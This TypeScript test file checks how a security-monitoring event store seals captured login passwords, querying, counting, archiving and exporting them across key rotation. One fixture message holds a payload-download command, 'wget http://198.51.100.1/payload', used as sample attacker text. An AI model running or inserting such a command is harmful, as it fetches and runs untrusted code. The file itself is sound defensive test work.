/** Credentials that lie sealed in the store, asked for as if they did not. */
import { EventEmitter } from 'node:events';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import type { Event } from '@netsentinel/contracts/event';
import type { EventFilter, EventStore } from '@netsentinel/contracts/event-store';
import { encodeEvent, sealedRecords } from '@netsentinel/kernel/event-record';
import { Keyring, makeKey, passingKeyring } from '@netsentinel/kernel/keyring';
import { silentLogger } from '@netsentinel/kernel/log';
import { SealedTexts } from '@netsentinel/kernel/sealed-text';
import { eventFixture } from '@netsentinel/testkit/event-fixtures';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { WorkerEventStore } from './duckdb-events.store.ts';
import { EventEngine } from './event-engine.ts';
import { serve } from './event-engine.serve.ts';
import type { EngineRequest } from './event-store.messages.ts';

const PASSWORD = 'netsentinel.credential.password';
const DAY = 86_400_000;
const START = Date.UTC(2026, 10, 20);
let directory: string;
let keyring: Keyring;
let store: EventStore;

async function open(): Promise<EventStore> {
  const { textKeys } = keyring;
  const engine = await EventEngine.open({ directory, memoryLimitMb: 128, threads: 2, minFreeBytes: 0, textKeys });
  const answers = new EventEmitter();
  const port = Object.assign(answers, {
    postMessage: (request: EngineRequest) =>
      void serve(engine, request).then((answer) => answers.emit('message', answer)),
  });
  const opened = new WorkerEventStore(port, silentLogger, keyring);
  answers.emit('message', { id: 0, ok: true, value: undefined });
  return opened;
}

beforeEach(async () => {
  directory = mkdtempSync(join(tmpdir(), 'events-'));
  keyring = passingKeyring();
  store = await open();
});
afterEach(async () => {
  await store.close();
  rmSync(directory, { recursive: true, force: true });
});

let made = 0;
function login(password: string, more: Partial<Event> = {}): Event {
  const event = eventFixture(made++);
  return {
    ...event,
    ...more,
    '@timestamp': new Date(START + made * 1000).toISOString(),
    user: { name: 'root' },
    event: { ...event.event, original: `login attempt [root/${password}]` },
    netsentinel: { ...event.netsentinel, credential: { method: 'password', password, accepted: false } },
  };
}

const found = async (filter: Omit<EventFilter, 'field'>, field = PASSWORD): Promise<(string | undefined)[]> => {
  const { events } = await store.query({ filters: [{ field, ...filter }], order: 'oldest' });
  return events.map((event) => event.netsentinel.credential?.password);
};
const top = (): ReturnType<EventStore['aggregate']> => store.aggregate({ by: [{ field: PASSWORD, top: 10 }] });
const bytes = (): Buffer =>
  Buffer.concat(
    readdirSync(directory, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => readFileSync(join(entry.parentPath, entry.name))),
  );

/** Some from before anything was sealed, then some under one key, then some under another. */
async function fill(): Promise<Event[]> {
  const events = ['Winter2026!', 'toor', 'Winter2026!', 'toor', 'Winter2026!', 'winter-is-coming'].map((one) =>
    login(one),
  );
  await store.appendEncoded!(events.slice(0, 1).map(encodeEvent), []);
  await store.append(events.slice(1, 3), []);
  keyring.rotate(1);
  await store.append(events.slice(3), []);
  return events;
}

it('answers events as they were, by any condition, whichever key they were sealed with', async () => {
  const events = await fill();
  expect((await store.query({ order: 'oldest' })).events).toEqual(events);
  expect(await store.get(events[4]!.event.id)).toEqual(events[4]);
  expect(await found({ op: 'eq', value: 'Winter2026!' })).toEqual(Array(3).fill('Winter2026!'));
  expect(await found({ op: 'eq', value: 'toor' })).toEqual(['toor', 'toor']);
  expect(await found({ op: 'in', value: ['toor', 'winter-is-coming'] })).toEqual(['toor', 'toor', 'winter-is-coming']);
  expect(await found({ op: 'eq', not: true, value: 'Winter2026!' })).toEqual(['toor', 'toor', 'winter-is-coming']);
  expect(await found({ op: 'prefix', value: 'winter-' })).toEqual(['winter-is-coming']);
  expect(await found({ op: 'contains', value: '2026' })).toHaveLength(3);
  expect(await found({ op: 'contains', value: '[root/toor]' }, 'event.original')).toHaveLength(2);
  expect(await found({ op: 'exists' })).toHaveLength(6);
  expect(await found({ op: 'eq', value: '~sealed1' })).toEqual([]);
});

it('counts a password once, through the change of a key', async () => {
  await fill();
  expect(await top()).toEqual([
    { keys: ['Winter2026!'], count: 3 },
    { keys: ['toor'], count: 2 },
    { keys: ['winter-is-coming'], count: 1 },
  ]);
  const distinct = { op: 'distinct', field: PASSWORD } as const;
  expect(await store.aggregate({ by: [{ field: 'user.name' }], measure: distinct })).toEqual([
    { keys: ['root'], count: 6, measure: 3 },
  ]);
});

it('writes none into any file, moves them to an archive as they are, and opens them in an export', async () => {
  const events = await fill();
  await store.append([login('kept-nowhere-1234')], []);
  await store.retain({ days: {}, archiveAfterDays: 1 }, START + 5 * DAY);
  expect(bytes().includes('kept-nowhere-1234')).toBe(false);
  expect(await found({ op: 'eq', value: 'kept-nowhere-1234' })).toEqual(['kept-nowhere-1234']);
  expect((await top())[0]).toEqual({ keys: ['Winter2026!'], count: 3 });
  const { path } = await store.exportParquet!({}, 100);
  const reader = await (await DuckDBInstance.create()).connect();
  const rows = (
    await reader.runAndReadAll(`SELECT event FROM read_parquet('${path}') ORDER BY "@timestamp"`)
  ).getRows();
  reader.closeSync();
  expect(rows.slice(0, -1).map(([event]) => JSON.parse(String(event)) as Event)).toEqual(events);
  await store.close();
  store = await open();
  expect(await found({ op: 'eq', value: 'toor' })).toEqual(['toor', 'toor']);
});

it('finds no words in what is sealed, and all words in what only looks so', async () => {
  await store.append([login('sesame', { message: 'an ordinary message' })], []);
  await store.append([login('x', { message: '~sealed1.wget http://198.51.100.1/payload' })], []);
  const words = async (text: string): Promise<number> => (await store.query({ words: text })).events.length;
  expect([await words('sesame'), await words('ordinary'), await words('payload')]).toEqual([0, 1, 1]);
});

it('gives back what does not open as it lies there', async () => {
  const [one, other] = [new SealedTexts(keyring), new SealedTexts(new Keyring([makeKey(0)], () => {}))];
  const swapped = one.seal('user.name', 'moved');
  const foreign = other.seal(PASSWORD, 'unknown');
  await store.appendEncoded!(
    [swapped, foreign].map((password) => encodeEvent(login(password))),
    [],
  );
  expect(await found({ op: 'exists' })).toEqual([swapped, foreign]);
  expect((await top()).map(({ keys }) => keys[0])).toEqual(expect.arrayContaining([swapped, foreign]));
});

it('goes on storing while sealed texts are opened', async () => {
  const records = sealedRecords(new SealedTexts(keyring));
  const appends = async (): Promise<void> => {
    for (let batch = 0; batch < 20; batch++)
      await store.appendEncoded!(
        Array.from({ length: 500 }, (_, i) => records.encode(login(`pw-${batch}-${i % 50}`))),
        [],
      );
  };
  const reads = async (): Promise<void> => {
    for (let i = 0; i < 20; i++) await Promise.all([top(), found({ op: 'contains', value: '-49' })]);
  };
  await Promise.all([appends(), reads(), reads(), store.retain({ days: {}, archiveAfterDays: 1 }, START + 5 * DAY)]);
  expect((await store.describe()).events).toBe(10_000);
}, 60_000);
